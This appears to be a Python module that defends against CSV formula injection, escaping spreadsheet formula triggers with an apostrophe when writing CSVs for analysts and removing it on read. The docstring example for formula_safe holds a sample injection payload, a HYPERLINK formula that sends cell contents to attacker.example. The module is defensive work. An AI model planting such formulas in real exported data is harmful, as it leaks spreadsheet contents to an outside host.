"""CSV files written for people: safe to open in a spreadsheet, and read back exactly.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and some strip a leading tab or carriage return first
(so ``"\\t=1+2"`` becomes a formula too). Text from data (names, evidence, documents)
could therefore run a formula such as ``=HYPERLINK(...)`` or a DDE command on the
analyst's machine. Following the OWASP guidance on CSV injection, every text cell that
starts with one of these characters (or their full-width forms) is written with a
leading apostrophe, which spreadsheets show as text and do not display; numbers stay
numbers. :func:`read_people_csv` removes exactly those apostrophes again, so a table an
analyst edited and saved comes back as it was written.

Files meant to be read back by programs (graph files, relations tables) are written
exactly, without this escaping.

References
----------
.. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
import os
from pathlib import Path
from typing import IO

import numpy as np
import pandas as pd

from ..base.errors import DataError, Problem
from .files import atomic_write

__all__ = [
    "TRIGGERS",
    "formula_safe",
    "formula_safe_frame",
    "read_people_csv",
    "unescape_formula",
    "write_people_csv",
    "write_people_csv_to",
]

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""First characters that make a spreadsheet read a cell as a formula."""


def formula_safe(value: object) -> object:
    """``value`` with an apostrophe in front if it is text a spreadsheet would run.

    Examples
    --------
    >>> formula_safe('=HYPERLINK("http://attacker.example/?x="&A1,"click")')
    '\\'=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    >>> formula_safe("\\t=1+2"), formula_safe("Turkey"), formula_safe(-0.4)
    ("'\\t=1+2", 'Turkey', -0.4)
    >>> formula_safe("'=already quoted")  # an apostrophe is kept, and one more added
    "''=already quoted"
    """
    if isinstance(value, str) and (value.startswith(TRIGGERS) or _quoted_trigger(value)):
        return "'" + value
    return value


def unescape_formula(value: object) -> object:
    """Undo :func:`formula_safe`: drop the apostrophe it added, and nothing else.

    Examples
    --------
    >>> unescape_formula("'=SUM(1+1)"), unescape_formula("'tis"), unescape_formula("''=x")
    ('=SUM(1+1)', "'tis", "'=x")
    """
    if isinstance(value, str) and value.startswith("'"):
        rest = value[1:]
        if rest.startswith(TRIGGERS) or _quoted_trigger(rest):
            return rest
    return value


def _quoted_trigger(value: str) -> bool:
    """Apostrophes followed by a trigger: escaped once more, so unescaping is exact."""
    stripped = value.lstrip("'")
    return len(stripped) < len(value) and stripped.startswith(TRIGGERS)


def _text_like(column: pd.Series) -> bool:
    dtype = column.dtype
    return (
        pd.api.types.is_object_dtype(dtype)
        or pd.api.types.is_string_dtype(dtype)
        or isinstance(dtype, pd.CategoricalDtype)
    )


def _safe_index(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        levels = [_safe_index(level) for level in index.levels]
        return index.set_levels(levels).set_names([formula_safe(n) for n in index.names])
    if _text_like(index.to_series()):
        index = index.astype(object).map(formula_safe)
    return index.rename(formula_safe(index.name))


def formula_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell, index value and column name made safe by
    :func:`formula_safe`; numbers, booleans and dates are left as they are.

    Examples
    --------
    >>> frame = pd.DataFrame({"name": ["@SUM(1+1)", "Iran"]}, index=pd.Index(["-x", "y"]))
    >>> formula_safe_frame(frame)
              name
    '-x  '@SUM(1+1)
    y         Iran
    """
    safe = frame.copy()
    for position in range(safe.shape[1]):
        column = safe.iloc[:, position]
        if _text_like(column):
            safe.isetitem(position, column.astype(object).map(formula_safe))
    safe.index = _safe_index(safe.index)
    safe.columns = [formula_safe(str(c)) for c in safe.columns]
    return safe


def write_people_csv_to(frame: pd.DataFrame, handle: IO[str], *, index: bool = False) -> None:
    """Write ``frame`` as CSV for people to an open text file (see :func:`write_people_csv`)."""
    # CRLF (RFC 4180): the csv module quotes a field only if it holds a character of the
    # line terminator, and an unquoted carriage return would start a new row
    formula_safe_frame(frame).to_csv(handle, index=index, lineterminator="\r\n")


def write_people_csv(frame: pd.DataFrame, path: str | os.PathLike, *, index: bool = False) -> Path:
    """Write ``frame`` as UTF-8 CSV for people: every text cell, index value and column
    name formula-safe (:func:`formula_safe`), written whole or not at all.

    Examples
    --------
    >>> import tempfile, pathlib
    >>> path = pathlib.Path(tempfile.mkdtemp()) / "t.csv"
    >>> frame = pd.DataFrame({"name": ["=1+2", "Iran", "NA"], "score": [-1.5, 2.0, 0.0]})
    >>> print(write_people_csv(frame, path).read_text(), end="")
    name,score
    '=1+2,-1.5
    Iran,2.0
    NA,0.0
    >>> read_people_csv(path).equals(frame)
    True
    """
    path = Path(path)
    with atomic_write(path) as handle:
        write_people_csv_to(frame, handle, index=index)
    return path


def _check_header_names(path: str | os.PathLike) -> None:
    """A column named twice is an error (pandas would rename the second ``ok`` to
    ``ok.1``, and a reader would silently use the first)."""
    try:
        with open(path, encoding="utf-8-sig", newline="") as handle:
            header = next(csv.reader(handle), [])
    except (OSError, UnicodeDecodeError, csv.Error):
        return  # pandas reports these
    seen: dict[str, int] = {}
    problems = []
    for number, raw in enumerate(header, start=1):
        name = str(unescape_formula(raw.strip()))
        if name in seen:
            problems.append(
                Problem(
                    str(path),
                    1,
                    name,
                    number,
                    name,
                    f"each column name once (column {seen[name]} is also {name!r})",
                )
            )
        seen.setdefault(name, number)
    if problems:
        raise DataError(problems)


def read_people_csv(path: str | os.PathLike, **read_csv_options) -> pd.DataFrame:
    """Read a CSV written by :func:`write_people_csv` (and perhaps edited), undoing the
    formula escaping; ``read_csv_options`` go to :func:`pandas.read_csv`.

    Only empty cells are missing values (text such as ``NA`` or ``null`` stays text),
    unless ``keep_default_na`` or ``na_values`` say otherwise. A column with no value at
    all is read as text (missing values), not as numbers: nothing in it says it holds
    numbers, and an analyst filling in a cell of it writes text.

    Examples
    --------
    >>> import tempfile, pathlib
    >>> path = pathlib.Path(tempfile.mkdtemp()) / "proposals.csv"
    >>> _ = write_people_csv(pd.DataFrame({"id": ["hts"], "aliases": [None]}), path)
    >>> frame = read_people_csv(path)
    >>> frame.loc[0, "aliases"] = "HTS|Tahrir al-Sham"
    >>> frame.loc[0, "aliases"]
    'HTS|Tahrir al-Sham'
    """
    if "keep_default_na" not in read_csv_options and "na_values" not in read_csv_options:
        read_csv_options.update(keep_default_na=False, na_values=[""])
    _check_header_names(path)
    frame = pd.read_csv(path, **read_csv_options)
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if _text_like(column):
            frame.isetitem(position, column.map(unescape_formula))
        elif len(column) and column.isna().all():
            frame.isetitem(position, _as_text(column))
    frame.columns = [unescape_formula(c) for c in frame.columns]
    if isinstance(frame.index, pd.MultiIndex):
        frame.index = frame.index.set_levels(
            [
                level.map(unescape_formula) if level.dtype == object else level
                for level in frame.index.levels
            ]
        ).set_names([unescape_formula(n) for n in frame.index.names])
    elif frame.index.dtype == object:
        frame.index = frame.index.map(unescape_formula).rename(unescape_formula(frame.index.name))
    return frame


def _as_text(column: pd.Series) -> pd.Series:
    """An all-empty column as a text column of missing values."""
    try:
        return column.astype(pd.StringDtype(na_value=np.nan))
    except TypeError:  # pandas before 2.3 has no NaN-valued string dtype
        return column.astype(object)
